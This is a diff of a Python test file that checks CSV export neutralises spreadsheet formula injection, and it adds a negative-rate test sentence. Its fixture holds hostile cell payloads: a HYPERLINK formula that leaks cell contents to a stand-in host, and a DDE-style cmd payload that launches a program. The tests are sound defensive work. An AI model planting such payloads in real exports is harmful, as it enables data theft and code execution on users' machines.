@@ -98,7 +98,8 @@ def test_no_csv_field_breaks_a_standard_reader(tmp_path):
 EVIL = ('=HYPERLINK("http://evil.example/?leak="&A1,"12 people were hurt")\n'
         "+12+cmd|' /C calc'!A0 said 40 people came in 2024.\n"
         "@SUM(1+1) 300 jobs were cut in 2022.\n"
-        "Sales fell by -3.5% in 2024, the company said.\n")
+        "Sales fell by -3.5% in 2024, the company said.\n"
+        "The deposit rate stood at -0.5% in 2024, the bank said.\n")
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -123,7 +124,9 @@ def test_claims_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path):
     assert "'@SUM(1+1) 300 jobs were cut in 2022." in sentences
     assert any(s.startswith("'=HYPERLINK(") for s in sentences)
     drop = next(r for r in rows if r["text"] == "-3.5%")
-    assert drop["value"] == "-3.5" and drop["text"] == "-3.5%"  # a signed number is data
+    assert drop["value"] == "3.5" and drop["text"] == "-3.5%"  # a signed text is data
+    level = next(r for r in rows if r["text"] == "-0.5%")       # (a fall's size is 3.5)
+    assert level["value"] == "-0.5"                             # ... and so is a signed number
     # extract -f csv writes the same cells; JSON keeps the text exact
     out = invoke("extract", src / "evil.txt", "-f", "csv").stdout
     assert_no_formula_cells(read_csv(out))
